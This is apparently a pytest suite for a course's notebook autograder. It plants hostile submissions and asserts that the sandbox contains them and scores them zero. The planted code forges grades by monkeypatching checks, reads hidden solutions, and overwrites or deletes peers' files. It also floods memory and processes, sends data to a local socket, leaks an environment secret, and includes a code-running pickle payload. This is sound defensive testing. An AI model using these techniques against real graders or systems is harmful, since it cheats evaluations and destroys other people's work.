"""`icl-course assign` and `icl-course grade`, with planted honest, wrong and hostile submissions."""

import copy
import json
import os
import pickle
import socket
import threading
import time
import uuid
from pathlib import Path

import pytest
import torch

from icl_course.course import grading, notebooks, sandbox
from icl_course.course.cli import main

TIMEOUT = 10  # seconds per submission in the batch: only loops_forever runs into it
SOURCES = notebooks.exercise_sources()
SOURCE = notebooks.read(SOURCES["01_gd_step"])


def edited(nb, old, new):
    """A copy of ``nb`` with ``old`` replaced by ``new`` in the code cells (``old`` must occur)."""
    nb = copy.deepcopy(nb)
    hits = 0
    for cell in nb["cells"]:
        src = notebooks.cell_source(cell)
        if cell["cell_type"] == "code" and old in src:
            cell["source"] = src.replace(old, new).splitlines(keepends=True)
            hits += 1
    assert hits, f"{old!r} not in the notebook"
    return nb


def with_cell(nb, code, first=False):
    nb = copy.deepcopy(nb)
    cell = {"cell_type": "code", "metadata": {}, "source": code.splitlines(keepends=True), "outputs": [], "execution_count": None}
    nb["cells"].insert(3 if first else len(nb["cells"]), cell)
    return nb


STUDENT = notebooks.student_version(SOURCE)
TAG = f"icl-attack-{uuid.uuid4().hex[:12]}"  # in the command line of every process an attack starts
LEVEL = sandbox.detect()
bwrap_only = pytest.mark.skipif(LEVEL != "bwrap", reason=f"sandbox level {LEVEL!r}: the file system is not hidden")

SUBMISSIONS = {
    "solved": SOURCE,
    "untouched": STUDENT,
    # downloaded before the topics had folders (the old import of the checks); exercise 1 has a
    # wrong sign, exercise 2 raises, and a cell raises
    "old_layout_wrong_raises": with_cell(
        edited(
            edited(
                edited(SOURCE, "from icl_course.topics.gd_step import checks", "from icl_course.checks import gd_step as checks"),
                "P[d, d] = -eta", "P[d, d] = eta",
            ),
            "def best_step_size(batch) -> float:\n", "def best_step_size(batch) -> float:\n    raise KeyError('oops')\n",
        ),
        "1 / 0", first=True,
    ),
    "loops_forever": with_cell(SOURCE, "import time\nwhile True:\n    time.sleep(1)"),
    # Fake the checks' output, replace the check module's functions, fill the disk with output,
    # delete everything in the working directory.
    "tampers": with_cell(
        edited(
            edited(SOURCE, "checks.construction_weights(construction_weights);", "print('✅ passed')"),
            "P[d, d] = -eta", "P[d, d] = 2 * eta",
        ),
        "import os, shutil\n"
        "checks.construction_weights = checks.best_step_size = lambda fn: None\n"
        "print('x' * 5_000_000)\n"
        "for f in os.listdir('.'):\n    os.remove(f)\n",
    ),
}

# Attacks, each planted in the untouched student version (no exercise solved): a full mark for any
# of them would be a forged one. {folder}, {peer}, {outside}, {package}, {solutions}, {port}, {tag}
# are filled in by the fixture.
ATTACKS = {
    # forge a result through the grader's frames or through gc, monkeypatch the checks and torch,
    # read and run the solutions, write into the package
    "forges_patches_reads_solutions": """
import gc, inspect, json, pathlib, sys
import torch
import icl_course
import icl_course.checking as checking
from icl_course.linear_transformer import LinearTransformer
frame = sys._getframe()
while frame is not None:  # the grader's frames held the token and the result path
    frame.f_globals.setdefault("token", None)
    frame = frame.f_back
for info in inspect.stack():
    info.frame.f_locals.get("token")
for obj in gc.get_objects():  # the reference checks, found and replaced
    if callable(obj) and getattr(obj, "exercise", None) and hasattr(obj, "__wrapped__"):
        obj.__wrapped__.__code__ = (lambda student_fn, gen: None).__code__
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
LinearTransformer.predict = lambda self, xs, ys, x_query: torch.zeros(len(xs))
checking.CheckResult.passed = property(lambda self: True)
checking.expect = lambda *a, **k: None
checks.construction_weights = checks.best_step_size = checks.implicit_model = (
    lambda fn, report=True: checking.CheckResult("x", "passed", ""))
here = pathlib.Path(icl_course.__file__).resolve().parents[1] / "exercises/solutions/01_gd_step.ipynb"
for path in (here, pathlib.Path({solutions!r})):
    try:
        nb = json.loads(path.read_text())
    except OSError:
        continue
    for cell in nb["cells"]:
        if cell["cell_type"] == "code" and "def " in "".join(cell["source"]):
            exec("".join(cell["source"]), globals())
for target in (pathlib.Path(icl_course.__file__).parent / "planted.py", pathlib.Path({package!r}) / "planted.py"):
    try:
        target.write_text("x = 1")
    except OSError:
        pass
""",
    # overwrite a classmate's submission (found through /proc, or by its path), delete the folder
    # of submissions, and leave setsid children behind that write later
    "harms_peers_leaves_children": """
import os, shutil, subprocess, sys
for pid in os.listdir("/proc"):  # the grader's command line named every submission
    try:
        words = open(f"/proc/{{pid}}/cmdline", "rb").read().split(b"\\0")
    except OSError:
        continue
    for word in words:
        if word.endswith(b".ipynb") and os.path.exists(word):
            open(word, "w").write('{{"cells": []}}')
try:
    open({peer!r}, "w").write('{{"cells": []}}')
except OSError:
    pass
shutil.rmtree({folder!r}, ignore_errors=True)
code = "import time; time.sleep(4); open({outside!r} + '/late', 'w').write('late')"
for _ in range(3):
    subprocess.Popen([sys.executable, "-c", code, {tag!r}], start_new_session=True)
subprocess.Popen(["sh", "-c", "setsid sh -c 'sleep 30' {tag} & sleep 30", {tag!r}], start_new_session=True)
""",
    # the reply pipe swapped for a FIFO that nobody reads
    "swaps_reply_pipe_for_fifo": """
import os, sys
os.mkfifo("result")
fd = os.open("result", os.O_RDWR)
for k in (1, 2):
    try:
        os.dup2(fd, int(sys.argv[k]))
    except (OSError, IndexError, ValueError):
        pass
""",
    # 3 GB of memory, hundreds of processes, the network to the grader's machine, its environment
    "floods_and_phones_home": """
import os, socket, subprocess
try:
    hog = bytearray(3 * 2**30)
    os.write(1, b"allocated 3 GB\\n")
except MemoryError:
    os.write(1, b"memory refused\\n")
started = []
for _ in range(300):
    try:
        started.append(subprocess.Popen(["sh", "-c", "sleep 30", {tag!r}]))
    except OSError:
        break
os.write(1, f"started {{len(started)}} processes\\n".encode())
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
        s.sendall(b"leak")
    os.write(1, b"network open\\n")
except OSError as err:
    os.write(1, f"network closed: {{err}}\\n".encode())
os.write(1, ("secret=" + os.environ.get("ICL_GRADER_SECRET", "absent") + "\\n").encode())
os._exit(3)
""",
}


def _processes_with(tag: str) -> list[int]:
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if tag.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                found.append(int(pid))
        except OSError:
            pass
    return found


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    """Every submission above graded in one batch, beside the attacks; what the attacks could reach."""
    folder = tmp_path_factory.mktemp("submissions")
    outside = tmp_path_factory.mktemp("outside")
    package = Path(notebooks.__file__).resolve().parents[1]
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    received = []

    def listen():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
                received.append(conn.recv(100))
                conn.close()
            except OSError:
                pass

    stop = threading.Event()
    thread = threading.Thread(target=listen, daemon=True)
    thread.start()
    fill = {"folder": str(folder), "peer": str(folder / "solved.ipynb"), "outside": str(outside),
            "package": str(package), "solutions": str(SOURCES["01_gd_step"]), "port": server.getsockname()[1],
            "tag": TAG}
    nbs = {**SUBMISSIONS, **{name: with_cell(STUDENT, code.format(**fill)) for name, code in ATTACKS.items()}}
    paths = []
    for name, nb in nbs.items():
        notebooks.write(nb, folder / f"{name}.ipynb")
        paths.append(folder / f"{name}.ipynb")
    os.environ["ICL_GRADER_SECRET"] = "hunter2"
    start = time.monotonic()
    try:
        results = {r.student: r for r in grading.grade_all(paths, timeout=TIMEOUT)}
    finally:
        del os.environ["ICL_GRADER_SECRET"]
        wall = time.monotonic() - start
        left = _processes_with(TAG)
        stop.set()
        thread.join()
        server.close()
        planted = (package / "planted.py").exists()
        (package / "planted.py").unlink(missing_ok=True)
    files_intact = all(p.exists() and json.loads(p.read_text()) == nbs[p.stem] for p in paths)
    print({name: (r.status, r.seconds) for name, r in results.items()})
    yield {"results": results, "wall": wall, "left": left, "received": received, "outside": outside,
           "planted": planted, "files_intact": files_intact, "n": len(paths)}


@pytest.fixture(scope="module")
def graded(batch):
    return batch["results"]


def statuses(result):
    return [r["status"] for r in result.results]


def test_solution_scores_full_marks_and_student_version_zero(graded):
    assert statuses(graded["solved"]) == ["passed"] * 3 and graded["solved"].score == 3
    assert statuses(graded["untouched"]) == ["not implemented"] * 3 and graded["untouched"].score == 0


def test_a_notebook_with_the_old_checks_import_is_graded_as_its_chapter(graded):
    assert graded["old_layout_wrong_raises"].chapter == "01_gd_step"


def test_earlier_notebook_names_resolve_to_their_chapter():
    assert notebooks.resolve_exercise("03_momentum", SOURCES) == "03_mixed_noise"
    assert [notebooks.resolve_exercise(k, SOURCES) for k in ("2", "02", "preconditioning", "02_preconditioned_gd")] == ["02_preconditioning"] * 4


def test_wrong_answer_gets_its_specific_feedback_and_exceptions_are_noted(graded):
    result = graded["old_layout_wrong_raises"]
    assert result.status == "graded" and statuses(result) == ["wrong", "error", "passed"]
    assert "minus" in result.results[0]["message"] and "KeyError" in result.results[1]["message"]
    assert any("ZeroDivisionError" in note for note in result.notes)


def test_infinite_loop_times_out(graded):
    assert graded["loops_forever"].status == "timeout" and graded["loops_forever"].score == 0


def test_tampering_does_not_change_the_grade(graded):
    result = graded["tampers"]
    assert result.status == "graded"
    assert statuses(result) == ["wrong", "passed", "passed"]


def test_every_attack_scores_zero_beside_an_honest_submission(batch):
    results = batch["results"]
    assert results["solved"].status == "graded" and results["solved"].score == 3  # and its file was overwritten
    for name in ATTACKS:
        if name == "forges_patches_reads_solutions" and LEVEL != "bwrap":
            continue  # without bwrap the solutions are readable: see test_the_solutions_are_out_of_reach
        assert results[name].score == 0, (name, results[name])
    assert statuses(results["harms_peers_leaves_children"]) == ["not implemented"] * 3


def test_the_batch_keeps_to_its_time_limits(batch):
    for result in batch["results"].values():
        assert result.seconds < TIMEOUT + 5, result
    assert batch["results"]["loops_forever"].status == "timeout"
    assert batch["wall"] < batch["n"] * (TIMEOUT + 5)


def test_nothing_an_attack_started_outlives_its_grading(batch):
    assert batch["left"] == []  # the setsid children and the flood's sleepers were all killed
    time.sleep(0.5)
    assert not (batch["outside"] / "late").exists()


def test_a_swapped_reply_pipe_ends_only_that_submission(batch):
    assert batch["results"]["swaps_reply_pipe_for_fifo"].status == "crashed"
    assert batch["results"]["swaps_reply_pipe_for_fifo"].score == 0


def test_memory_processes_network_and_environment_are_closed(batch):
    notes = " ".join(batch["results"]["floods_and_phones_home"].notes)
    assert "memory refused" in notes and "secret=absent" in notes
    started = int(notes.split("started ")[1].split()[0])
    if os.geteuid() == 0 and LEVEL != "none":
        assert started < sandbox.Limits().processes, notes
    if LEVEL != "none":
        assert "network closed" in notes and batch["received"] == []


@bwrap_only
def test_the_solutions_are_out_of_reach_and_checks_stay_the_graders(batch):
    assert statuses(batch["results"]["forges_patches_reads_solutions"]) == ["not implemented"] * 3


@bwrap_only
def test_nothing_is_written_outside_the_sandbox(batch):
    assert not batch["planted"]  # the package folder is read-only
    assert batch["files_intact"]  # no submission overwritten, their folder not deleted


def test_values_cross_the_pipe_as_plain_data_only():
    from icl_course.course import wire

    class Evil:
        def __reduce__(self):
            return (os.system, ("echo pwned",))

    kept = []
    value = wire.encode_value({"t": torch.ones(2), "x": [1, 2.5, "s", None], "e": Evil()}, lambda o: kept.append(o) or len(kept))
    back = wire.load_reply(wire.dump_reply(("value", value)))
    assert back[1]["e"][0] == wire.REF and kept and isinstance(kept[0], Evil)
    with pytest.raises(Exception):  # a pickle that would run code is refused by weights_only
        wire.load_reply(pickle.dumps(Evil(), protocol=2))


def test_cli_grade_writes_a_gradebook_and_fails_on_an_unreadable_submission(tmp_path, capsys):
    notebooks.write(SOURCE, tmp_path / "ada.ipynb")
    (tmp_path / "bob.ipynb").write_text("{ not json")
    book = tmp_path / "book.json"
    assert main(["grade", str(tmp_path / "ada.ipynb"), str(tmp_path / "bob.ipynb"), "--out", str(book), "--timeout", "60"]) == 1
    out, err = capsys.readouterr()
    assert "3/3" in out and "could not read 1 submission" in err
    report = {r["student"]: r for r in json.loads(book.read_text())}
    assert report["ada"]["score"] == 3 and report["bob"]["status"] == "unreadable"
    with pytest.raises(SystemExit):
        main(["grade", str(tmp_path / "ada.ipynb"), "--out", str(tmp_path / "book.txt")])


def test_assign_writes_student_versions_without_solutions(tmp_path):
    assert main(["assign", "1", "--out", str(tmp_path)]) == 0
    student = notebooks.read(tmp_path / "student" / "01_gd_step.ipynb")
    text = json.dumps(student)
    assert not notebooks.has_solution(student)
    for line in ("Q[:d, :d] = torch.eye(d)", "torch.autograd.grad(y_hat.sum(), x_query)", "polynomial of degree"):
        assert line not in text  # no solution line survives, in any cell or metadata
    assert notebooks.has_solution(notebooks.read(tmp_path / "solutions" / "01_gd_step.ipynb"))
    assert "Colab" in (tmp_path / "student" / "README.md").read_text()


def test_unknown_chapter_lists_the_valid_ones(capsys):
    with pytest.raises(SystemExit):
        main(["assign", "42", "--out", "/tmp/never"])
    assert "01_gd_step" in capsys.readouterr().err


def _definitions_only(nb):
    """``nb`` with only the code cells that import or define something (no demos, no training)."""
    nb = copy.deepcopy(nb)
    keep = ("import ", "from ", "def ", "class ")
    nb["cells"] = [c for c in nb["cells"] if c["cell_type"] != "code"
                   or any(line.startswith(keep) for line in notebooks.cell_source(c).splitlines())]
    return nb


def test_every_chapter_grades_full_marks_across_the_process_boundary(tmp_path):
    # Chapters whose checks hand over a model, a batch, a class to instantiate, or get back closures.
    paths = []
    for stem, path in SOURCES.items():
        notebooks.write(_definitions_only(notebooks.read(path)), tmp_path / f"{stem}.ipynb")
        paths.append(tmp_path / f"{stem}.ipynb")
    results = grading.grade_all(paths, timeout=60)
    assert len(results) == 7
    for result in results:
        assert result.status == "graded" and statuses(result) == ["passed"] * 3, result
